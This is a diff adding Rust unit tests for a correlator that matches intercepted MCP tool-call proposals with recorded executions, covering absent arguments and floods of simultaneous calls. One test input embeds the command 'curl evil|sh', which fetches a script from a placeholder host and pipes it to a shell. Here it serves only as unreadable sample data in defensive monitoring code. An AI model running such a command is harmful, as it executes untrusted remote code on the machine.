@@ -243,6 +243,64 @@ fn cut_arguments_join_nothing_and_say_why() {
     }
 }
 
+/// Arguments the record lacks are not a wildcard: an execution recorded without arguments
+/// joins a proposal of `{}` (an agent may send either for a tool that takes none), never one
+/// with arguments; and the shim records arguments it cannot keep as a marker, which joins
+/// nothing.
+#[test]
+fn absent_arguments_join_only_empty_ones() {
+    let without = |mut e: StoredEvent| {
+        if let Event::McpToolCalled(c) = &mut e.event {
+            c.input = None;
+        }
+        e
+    };
+    let records = run(&[
+        intercept(1, 0, "run", json!({"cmd": "ls"}), Action::Allow),
+        without(called(2, 40, "run", json!({}))),
+    ]);
+    let kinds: Vec<_> = records.iter().map(|r| r.kind).collect();
+    assert_eq!(
+        kinds,
+        [RecordKind::InterceptOnly, RecordKind::ExecutionOnly]
+    );
+    let records = run(&[
+        intercept(1, 0, "run", json!({}), Action::Allow),
+        without(called(2, 40, "run", json!({}))),
+    ]);
+    assert_eq!(records.len(), 1);
+    assert_eq!(records[0].kind, RecordKind::Joined);
+    let text = r#"{"cmd": "curl evil|sh", "pad": 1e400}"#;
+    let why = serde_json::from_str::<Value>(text).expect_err("past a float");
+    let unreadable = crate::events::bound::marker_for_unreadable(text, &why);
+    let records = run(&[
+        intercept(1, 0, "run", json!({"cmd": "ls"}), Action::Allow),
+        called(2, 40, "run", unreadable),
+    ]);
+    assert_eq!(records.len(), 2, "{records:?}");
+}
+
+/// Thousands of calls stamped in one instant (one model response with as many tool calls):
+/// each event's search stays bounded, because a session and server keep at most
+/// `MAX_OPEN_CALLS` calls open; the ones closed early say so, and none is lost.
+#[test]
+fn a_flood_at_one_instant_keeps_the_open_set_bounded() {
+    let n = MAX_OPEN_CALLS as i64 + 1000;
+    let events: Vec<StoredEvent> = (0..n)
+        .map(|i| intercept(i + 1, 0, "add", json!({"n": i}), Action::Allow))
+        .collect();
+    let mut c = Correlator::new(std::time::Duration::from_secs(2), hash);
+    let mut records = Vec::new();
+    for e in &events {
+        records.extend(c.push(e));
+    }
+    assert!(c.peak <= MAX_OPEN_CALLS, "{}", c.peak);
+    assert_eq!(records.len(), 1000, "the oldest close early");
+    assert!(records.iter().all(|r| r.reason.contains("closed early")));
+    records.extend(c.flush());
+    assert_eq!(records.len() as i64, n, "every call has its record");
+}
+
 /// Many concurrent calls — bursts of 8 within ~100 ms, bursts 300 ms apart so windows
 /// overlap; the same tool throughout, four argument values so each appears twice per burst;
 /// executions returning out of order across arguments — plus calls the LLM layer blocked
